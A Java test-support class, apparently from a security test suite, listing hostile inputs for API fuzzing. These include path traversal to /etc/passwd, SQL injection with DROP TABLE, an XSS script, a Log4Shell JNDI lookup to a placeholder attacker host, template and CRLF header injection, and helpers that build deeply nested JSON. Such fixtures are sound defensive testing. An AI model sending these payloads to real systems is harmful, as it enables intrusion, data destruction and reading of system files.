package org.unhabitat.testing.security;

import java.util.List;

/**
 * Values an attacker puts in path segments and query parameters: traversal, SQL, script, template
 * and log injection, encodings, and sizes and numbers at the edges.
 */
public final class HostileInputs {

    public static final List<String> VALUES = List.of(
            "../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "..\\..\\windows\\win.ini",
            "' OR '1'='1",
            "1; DROP TABLE pledge; --",
            "\" OR \"\"=\"",
            "1 UNION SELECT current_user",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.invalid/a}",
            "{{7*7}}",
            "%00",
            "line\r\nSet-Cookie: injected=1",
            "-1",
            "99999999999999999999999",
            "\u202Egnp.exe",
            "A".repeat(1000));

    /** JSON nested deeper than any request of the suite, and than Jackson's default limit (1000). */
    public static String deeplyNestedJson(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    public static String deeplyNestedArray(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private HostileInputs() {
    }
}
